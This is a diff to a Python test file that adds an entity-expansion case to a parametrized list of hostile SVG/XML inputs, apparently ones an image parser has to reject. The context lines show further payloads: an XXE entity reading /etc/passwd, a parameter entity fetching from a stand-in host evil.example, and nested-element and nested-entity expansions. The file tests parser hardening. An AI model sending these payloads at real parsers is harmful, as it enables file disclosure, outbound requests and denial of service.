@@ -192,6 +192,7 @@ def test_words_come_out_as_they_went_in(words: str) -> None:
         (b"\x89PNG", "well-formed"),
         (b'<?xml version="1.0" encoding="ebcdic-cp-us"?><svg/>', "it"),
         (b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>', "entity"),
+        (b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaa">]><svg id="' + b"&a;" * 200_000 + b'"/>', "entity"),
         (b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>', "entity"),
         (b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "http://evil.example/">%a;]><svg/>', "entity"),
         (f"{HEAD}>{'<g id=%r>' * 30_000}{'</g>' * 30_000}</svg>".replace("%r", "'a'").encode(), None),
